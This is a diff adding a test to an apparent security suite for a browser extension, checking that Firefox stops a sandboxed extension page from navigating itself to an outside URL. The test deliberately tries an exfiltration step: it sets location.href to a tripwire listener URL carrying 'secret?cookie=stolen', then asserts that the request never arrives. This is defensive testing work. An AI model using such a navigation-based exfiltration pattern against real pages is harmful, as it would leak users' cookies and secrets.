@@ -189,3 +189,20 @@ def test_a_web_page_may_load_the_sandboxs_scripts_and_nothing_else_of_the_extens
     assert loaded == {"sandbox_script": "loaded", "sandbox_page": "refused", "secrets": "refused", "python_page": "refused"}
     refusals = firefox.take_problems()  # Firefox's own words for the refusals, and nothing else
     assert all(" may not load or link to moz-extension://" in problem for problem in refusals), refusals
+
+
+def test_the_sandbox_page_cannot_navigate_itself_off_the_extension(firefox, tripwire):
+    """Its own location is the one way out a page's CSP does not govern. Firefox does not follow
+    it (it says nothing about why): the frame stays the sandbox page, and nothing is heard."""
+    page, frame = sandbox_page_frame(firefox)
+    url = json.dumps(tripwire.url("secret?cookie=stolen"))
+    firefox.send("script.evaluate", {"expression": f"location.href = {url}", "target": {"context": frame, "sandbox": "probe"},
+                                     "awaitPromise": False, "resultOwnership": "none"})
+    # The control, sent after the attempt: the only request the tripwire hears.
+    assert firefox.evaluate(page, f"fetch({json.dumps(tripwire.url('control'))}).then((r) => r.status)") == 200
+    assert [hit["path"] for hit in tripwire.hits] == ["/control"]
+    tripwire.hits.clear()
+    tree = firefox.send("browsingContext.getTree", {"root": page})["contexts"][0]
+    assert [child["url"] for child in tree["children"]] == [firefox.url("extension/sandbox/sandbox.html")]
+    firefox.send("browsingContext.close", {"context": page})
+    assert without_the_walls_reports(firefox) == []
